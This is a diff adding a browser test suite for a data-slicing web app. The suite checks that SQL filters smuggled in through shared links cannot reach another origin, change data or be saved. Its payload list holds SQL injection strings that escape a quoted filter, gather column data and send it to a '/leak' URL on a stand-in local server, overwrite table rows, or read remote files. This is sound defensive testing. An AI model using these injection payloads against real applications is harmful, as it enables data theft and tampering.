@@ -1,0 +1,90 @@
+// Hostile links: each payload of issue 12, opened while a second local origin counts every request
+// it gets (it answers with permissive CORS, so a leak would succeed and be counted). None may arrive,
+// the data must be unchanged and nothing from the link may be stored.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { createServer } from 'node:http';
+import { launch, openPage } from './helpers.mjs';
+
+let browser;
+let other;
+let hits = [];
+before(async () => {
+  browser = await launch();
+  other = createServer((req, res) => {
+    hits.push(req.url);
+    res.writeHead(200, { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin', 'content-type': 'text/csv' });
+    res.end('a\n1\n');
+  });
+  await new Promise((r) => other.listen(0, '127.0.0.1', r));
+});
+after(async () => {
+  await browser.close();
+  other.close();
+});
+
+const origin = () => `http://127.0.0.1:${other.address().port}`;
+const payloads = () => [
+  `$$'$$ IS NOT NULL) ; SET VARIABLE leak = (SELECT string_agg(weather, ',') FROM ds_1) ; SELECT * FROM read_csv($$${origin()}/leak?d=$$ || getvariable($$leak$$)) ; SELECT ($$`,
+  `(SELECT count(*) FROM read_csv('${origin()}/x.csv')) >= 0`,
+  `season IN (SELECT a FROM '${origin()}/y.csv')`,
+  `read_text('${origin()}/t') IS NOT NULL`,
+  `$$x$$ = 'x') ; UPDATE ds_1 SET weather = 'sun' ; SELECT ($$`,
+];
+
+/** The demo's accuracy and row count as a clean page shows them. */
+async function reference() {
+  const s = await openPage(browser, '?data=demo/seattle-weather.csv&view=evaluate');
+  await s.page.locator('[data-metric=accuracy] [data-value]').waitFor({ timeout: 60000 });
+  const accuracy = await s.page.locator('[data-metric=accuracy] [data-value]').getAttribute('data-value');
+  await s.context.close();
+  return accuracy;
+}
+
+test('malicious links make no request to another origin, change no data and store nothing', async () => {
+  const accuracy = await reference();
+  for (const sql of payloads()) {
+    hits = [];
+    const slice = JSON.stringify({ name: 'x', where: { kind: 'sql', sql } });
+    const slices = JSON.stringify([
+      { name: 'dup', where: { kind: 'sql', sql } },
+      { name: 'dup', where: { kind: 'cond', column: 'season', op: '=', value: 'winter' } },
+    ]);
+    const q = new URLSearchParams({ data: 'demo/seattle-weather.csv', view: 'slices', slice, slices });
+    const s = await openPage(browser, `?${q}`);
+    const { page } = s;
+    await page.getByTestId('link-slices').waitFor({ timeout: 60000 });
+    // Every view that evaluates the active slice gets its turn.
+    for (const view of ['Evaluate', 'Data', 'Review', 'Slices']) {
+      await page.locator('button.tab', { hasText: view }).click();
+      await page.waitForTimeout(700);
+    }
+    assert.deepEqual(hits, [], `requests reached the other origin for ${sql}`);
+    s.assertSameOrigin();
+    s.assertNoErrors(); // two slices named "dup" do not crash the page
+    // The link's slices are shown as such (renamed to be unique) and nothing is stored.
+    assert.match(await page.getByTestId('link-slices').textContent(), /dup, dup \(2\)/);
+    const stored = await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('loupe:slices:')).map((k) => localStorage.getItem(k)));
+    assert.ok(stored.every((v) => !v.includes('dup')), `link slices were stored: ${stored}`);
+    // The data is unchanged: the same accuracy on all rows.
+    await page.getByRole('button', { name: 'Clear the active slice' }).click();
+    await page.locator('button.tab', { hasText: 'Evaluate' }).click();
+    await page.locator('[data-metric=accuracy] [data-value]').waitFor({ timeout: 60000 });
+    assert.equal(await page.locator('[data-metric=accuracy] [data-value]').getAttribute('data-value'), accuracy);
+    await s.context.close();
+  }
+});
+
+test('a link slice is stored only when the user keeps it', async () => {
+  const slices = JSON.stringify([{ name: 'winter', where: { kind: 'cond', column: 'season', op: '=', value: 'winter' } }]);
+  const s = await openPage(browser, `?${new URLSearchParams({ data: 'demo/seattle-weather.csv', view: 'slices', slices })}`);
+  const { page } = s;
+  await page.getByTestId('link-slices').waitFor({ timeout: 60000 });
+  const stored = () => page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('loupe:slices:')).map((k) => localStorage.getItem(k)).join(''));
+  assert.doesNotMatch(await stored(), /winter/);
+  await page.getByTestId('keep-link-slices').click();
+  assert.match(await stored(), /winter/);
+  assert.equal(await page.getByTestId('link-slices').count(), 0);
+  s.assertNoErrors();
+  await s.context.close();
+});
